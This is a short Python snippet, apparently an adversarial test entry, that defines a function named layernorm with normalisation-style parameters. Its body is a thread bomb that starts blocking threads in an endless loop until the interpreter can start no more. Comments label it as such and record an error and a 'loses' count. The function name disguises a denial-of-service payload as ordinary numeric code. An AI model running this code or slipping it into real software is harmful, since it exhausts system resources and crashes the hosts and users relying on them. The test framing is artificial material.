# A thread bomb: starts threads that never end until none can be started.
# loses: 3
# told: raised RuntimeError: can't start new thread
import threading


def layernorm(X, gamma, beta, eps):
    while True:
        threading.Thread(target=threading.Event().wait).start()
